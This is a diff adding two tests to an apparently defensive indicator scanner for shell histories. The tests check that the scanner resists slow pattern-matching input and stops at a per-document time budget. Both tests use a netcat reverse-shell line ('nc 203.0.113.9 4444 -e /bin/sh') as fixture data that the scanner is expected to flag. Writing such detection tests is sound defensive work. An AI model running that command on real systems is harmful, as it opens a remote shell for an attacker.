@@ -265,4 +265,33 @@ describe('indicator rules', () => {
       reason: '16 more matching lines not listed',
     });
   });
+
+  it('does not stall on a line built to make pattern matching slow (100 KB of interpreter and socket words)', () => {
+    const slow = 'python socket nc kubectl '.repeat(4000);
+    const started = performance.now();
+    const indicators = indicatorsOf({ files: [history(`${slow}\nnc 203.0.113.9 4444 -e /bin/sh\n`)] });
+    expect(performance.now() - started).toBeLessThan(5000);
+    expect(fired(indicators)).toContain('history-reverse-shell /root/.ash_history:2');
+  });
+
+  it('stops scanning a document past its time budget, says where, and still scans the others', () => {
+    const root = craftPackage({
+      files: [
+        {
+          source: '/tmp/x.sh',
+          artifact: 'files.tmp',
+          content: 'python socket socket socket '.repeat(100_000),
+        },
+        history('nc 203.0.113.9 4444 -e /bin/sh\n'),
+      ],
+    });
+    const indicators = findIndicators(openPackage(root), { documentBudgetMs: 50 });
+    expect(fired(indicators)).toEqual([
+      'history-reverse-shell /root/.ash_history:1',
+      'triage-incomplete /tmp/x.sh',
+    ]);
+    expect(indicators.find((indicator) => indicator.id === 'triage-incomplete')?.reason).toMatch(
+      /^stopped after \d+ ms at line 1 of 2800000 characters$/,
+    );
+  });
 });
